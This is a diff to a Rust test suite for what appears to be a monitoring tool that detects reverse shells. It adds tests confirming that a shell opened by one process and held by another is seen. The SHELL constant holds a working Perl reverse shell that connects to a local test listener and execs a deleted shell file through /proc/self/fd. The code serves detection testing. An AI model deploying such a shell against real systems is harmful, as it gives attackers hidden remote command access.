@@ -9,6 +9,7 @@ use std::{
 };
 
 use serde_json::Value;
+use socket2::SockRef;
 
 use super::programs::bash;
 use crate::kernel::{
@@ -19,12 +20,13 @@ use crate::kernel::{
     tier::{Tier, tier},
 };
 
-/// The shape of a reverse shell: a script connects to its first argument, leaves the connection to
-/// a child and ends; the child becomes a shell, the file of its second argument, which it deletes.
+/// The shape of a reverse shell: a script connects to the port of its first argument, and leaves the
+/// connection to a child; the child becomes a shell, the file of its second argument, which it
+/// deletes. The script waits for the shell if it has a third argument.
 const SHELL: &str = r#"
-    use IO::Socket::INET;
-    $s = IO::Socket::INET->new(PeerAddr => $ARGV[0]) or die;
-    exit if fork;
+    socket($s, 2, 1, 0) or die;
+    connect($s, pack("S n C4 x8", 2, $ARGV[0], 127, 0, 0, 1)) or die;
+    if (fork) { wait if $ARGV[2]; exit }
     open(STDIN, "<&", $s); open(STDOUT, ">&", $s);
     $^F = 99; open($file, "<", $ARGV[1]) or die; unlink $ARGV[1];
     exec {"/proc/self/fd/" . fileno($file)} "sh", "-s", "quiet";
@@ -53,6 +55,18 @@ fn assert_both(row: &Value, [opener, holder]: [u32; 2], copy: &str) {
 
 #[test]
 fn a_reverse_shell_is_opened_by_one_process_and_held_by_another() {
+    reverse_shell(&[]);
+}
+
+#[test]
+fn a_reverse_shell_is_seen_beside_a_script_that_waits_for_it() {
+    // The basic tier does not know that the child runs another program.
+    if tier() != Tier::Basic {
+        reverse_shell(&["waits"]);
+    }
+}
+
+fn reverse_shell(args: &[&str]) {
     let directory = Directory::new();
     let copies = Directory::new();
     let copy = copies.0.join("copy").to_string_lossy().into_owned();
@@ -63,11 +77,14 @@ fn a_reverse_shell_is_opened_by_one_process_and_held_by_another() {
         let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
         let address = listener.local_addr().expect("bound");
         let mut script = Command::new("perl");
-        let mut script =
-            script.args(["-e", SHELL, &address.to_string(), &copy]).spawn().expect("perl");
+        script.args(["-e", SHELL, &address.port().to_string(), &copy]).args(args);
+        let mut script = script.spawn().expect("perl");
         let opener = script.id();
+        SockRef::from(&listener).set_read_timeout(Some(patience())).expect("a limit");
         let (mut server, client) = listener.accept().expect("accepted");
-        assert!(script.wait().expect("its end").success());
+        if args.is_empty() {
+            assert!(script.wait().expect("its end").success());
+        }
         server.set_read_timeout(Some(patience())).expect("a limit");
         writeln!(server, "echo $$").expect("written");
         let mut answer = String::new();
@@ -103,6 +120,7 @@ fn a_reverse_shell_is_opened_by_one_process_and_held_by_another() {
                 && event["local_port"] == client.port()
                 && event["direction"] == "outbound"
         };
+        script.wait().expect("its end");
         watch.until("the end", |events| events.iter().any(|event| is_it(&event)));
         assert_both(watch.events.iter().find(is_it).expect("there"), both, &copy);
 
